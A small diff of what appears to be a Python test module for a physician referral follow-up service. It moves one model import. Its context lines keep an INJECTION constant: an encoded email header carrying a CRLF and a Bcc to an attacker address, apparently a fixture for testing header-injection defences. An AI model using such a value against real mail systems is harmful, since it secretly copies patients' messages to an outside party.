@@ -20,7 +20,7 @@ import sqlalchemy as sa
 from followupd import config as configuration
 from followupd import render
 from followupd.engine import Engine
-from followupd.models import FollowUp, Physician, Practice, Referral, Visit
+from followupd.models import Bundle, FollowUp, Physician, Practice, Referral, Visit
 from followupd.records import parse_referral
 from followupd.render import (
     RenderError,
@@ -29,7 +29,7 @@ from followupd.render import (
     build_reminder,
     context_for,
 )
-from followupd.store import Bundle, Directory, Store, upsert_referrals
+from followupd.store import Directory, Store, upsert_referrals
 
 MARK = "Qzx"  # patient values are fenced with this, to look for them in reasons
 INJECTION = "=?utf-8?q?a=0D=0ABcc:_evil@attacker.example?="
